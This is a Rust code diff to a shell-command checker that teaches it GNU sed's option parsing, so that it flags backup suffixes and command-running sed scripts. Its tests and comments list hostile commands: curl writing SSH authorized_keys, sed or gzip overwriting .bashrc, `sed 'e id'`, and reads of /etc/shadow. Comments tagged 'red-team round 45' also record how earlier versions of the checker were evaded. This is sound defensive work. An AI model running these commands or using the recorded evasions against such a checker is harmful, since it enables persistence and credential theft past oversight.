@@ -1143,6 +1143,7 @@ fn names_at_run_time(program: &str, args: &[String]) -> Option<&'static str> {
         {
             Some("adds a suffix of its options to the names it writes")
         }
+        "sed" | "gsed" if sed_args(args).backup_suffix => Some("makes a backup name at run time (a suffix added to each file it edits)"),
         "split" | "csplit" => Some("names the files it writes at run time"),
         // Recursive, it writes the names of a directory tree (red-team round 43: `gzip -dfr ~`
         // wrote `~/.bashrc` from `~/.bashrc.gz`).
@@ -1489,30 +1490,85 @@ fn awk_writes(program: &str) -> bool {
     })
 }
 
-/// Whether a sed script among `args` uses the `e` command or the `e` flag of `s`, which run
-/// text as a shell command.
-fn sed_executes(args: &[String]) -> bool {
-    let mut scripts: Vec<&str> = Vec::new();
-    let mut it = args.iter().peekable();
-    let mut first_plain = true;
+/// GNU sed's arguments as its getopt reads them: the scripts (`-e`, `--expression`, or the
+/// first operand when there is neither), whether a script comes from a file (`-f`), and
+/// whether `-i`/`--in-place` carries a backup suffix (a name sed composes at run time: `sed
+/// -i'rc' '' ~/.bash` renames `~/.bash` to `~/.bashrc`, red-team round 45).
+struct SedArgs<'a> {
+    scripts: Vec<&'a str>,
+    from_file: bool,
+    backup_suffix: bool,
+}
+
+fn sed_args(args: &[String]) -> SedArgs<'_> {
+    let mut out = SedArgs { scripts: Vec::new(), from_file: false, backup_suffix: false };
+    let mut operands: Vec<&str> = Vec::new();
+    let mut it = args.iter();
     while let Some(a) = it.next() {
-        if a == "-e" || (long(a, "--expression") && !a.contains('=')) {
-            if let Some(s) = it.next() {
-                scripts.push(s);
+        if a == "--" {
+            operands.extend(it.by_ref().map(String::as_str));
+            break;
+        }
+        if a.starts_with("--") {
+            // Options taking an argument, spaced or after `=` (any unambiguous abbreviation:
+            // `--expression` is the only one starting `--e`, `--line-length` `--l`).
+            let value = |name: &str| long_value(a, name);
+            if let Some(v) = value("--expression") {
+                out.scripts.push(v);
+            } else if long(a, "--expression") {
+                out.scripts.extend(it.next().map(String::as_str));
+            } else if long(a, "--file") {
+                out.from_file = true;
+                if !a.contains('=') {
+                    it.next();
+                }
+            } else if long(a, "--line-length") {
+                // (round 45: `sed -l 5 'e id' f` read `5` as the script.)
+                if !a.contains('=') {
+                    it.next();
+                }
+            } else if long(a, "--in-place") && value("--in-place").is_some_and(|v| !v.is_empty()) {
+                out.backup_suffix = true;
             }
-            first_plain = false;
-        } else if let Some(s) = long_value(a, "--expression") {
-            scripts.push(s);
-            first_plain = false;
-        } else if a == "-f" || long(a, "--file") {
-            // A script from a file hoop cannot read.
-            return true;
-        } else if !a.starts_with('-') && first_plain {
-            scripts.push(a);
-            first_plain = false;
+            continue;
+        }
+        let Some(cluster) = short_cluster(a) else {
+            operands.push(a);
+            continue;
+        };
+        for (i, c) in cluster.char_indices() {
+            let rest = &cluster[i + c.len_utf8()..];
+            match c {
+                // An argument: the rest of the word, or the next word.
+                'e' | 'f' | 'l' => {
+                    let arg = if rest.is_empty() { it.next().map(String::as_str) } else { Some(rest) };
+                    match c {
+                        'e' => out.scripts.extend(arg),
+                        'f' => out.from_file = true,
+                        _ => {}
+                    }
+                    break;
+                }
+                // An optional argument: only glued (`-i.bak`, `-irc`, `-nirc`).
+                'i' => {
+                    out.backup_suffix |= !rest.is_empty();
+                    break;
+                }
+                _ => {}
+            }
         }
     }
-    scripts.iter().any(|s| sed_script_executes(s))
+    if out.scripts.is_empty() && !out.from_file {
+        out.scripts.extend(operands.first().copied());
+    }
+    out
+}
+
+/// Whether a sed script among `args` uses the `e` command or the `e` flag of `s`, which run
+/// text as a shell command, or comes from a file hoop cannot read.
+fn sed_executes(args: &[String]) -> bool {
+    let read = sed_args(args);
+    read.from_file || read.scripts.iter().any(|s| sed_script_executes(s))
 }
 
 fn sed_script_executes(script: &str) -> bool {
@@ -2056,8 +2112,17 @@ mod tests {
             "curl -s 'file:///tmp/{.ss}h/../ak' -o '/home/web/#1h/authorized_keys'",
             "curl -o '/home/web/#1rc' 'http://x/[1-2]'",
             "curl -K /tmp/cfg",
+            // Round 45: sed's backup suffix, in every spelling getopt takes.
+            "sed -i'rc' '' /home/web/.bash",
+            "sed -irc '' /home/web/.bash",
+            "sed -ni'*rc' p /home/web/.bash",
+            "sed --in-place=rc '' /home/web/.bash",
+            "sed --in-pl=/home/web/*rc -n p f",
         ] {
             unreadable(line);
+        }
+        for line in ["sed -i 's/a/b/' f", "sed -ni p f", "sed --in-place -e 's/a/b/' f", "sed -e 's/i/j/' f"] {
+            assert!(read_line(line).unreadable.is_empty(), "{line}: {:?}", read_line(line));
         }
         assert!(read_line("curl -s file:///home/web/%2essh/authorized_keys").paths.contains(&"/home/web/.ssh/authorized_keys".to_string()));
         assert!(read_line("curl -sg 'http://x/{a}' -o /tmp/out").unreadable.is_empty());
@@ -2077,6 +2142,13 @@ mod tests {
             assert!(read_line(line).paths.iter().any(|p| p.starts_with("/etc/shadow")), "{line}: {:?}", read_line(line));
         }
         assert!(read_line("sed --expr='1e id' f").interpreter.contains("sed"), "{:?}", read_line("sed --expr='1e id' f"));
+        // Round 45: `-l N` takes an argument, so the script is the word after it.
+        for line in ["sed -l 5 'e id' f", "sed -nl 5 'e id' f", "sed --line-length 5 'e id' f", "sed --line 5 '1e id' f", "sed -s -l5 'e id' f", "sed -- 'e id' f", "sed f -e 'e id'"] {
+            assert!(read_line(line).interpreter.contains("sed"), "{line}: {:?}", read_line(line));
+        }
+        for line in ["sed -l 5 's/e/x/' f", "sed -n -e 'p' 'e id'"] {
+            assert!(read_line(line).interpreter.is_empty(), "{line}: {:?}", read_line(line));
+        }
         // Other options are left alone.
         assert!(read_line("sort --reverse f").interpreter.is_empty() && read_line("sort --reverse f").unreadable.is_empty());
         assert!(read_line("ls --directory /tmp").unreadable.is_empty());
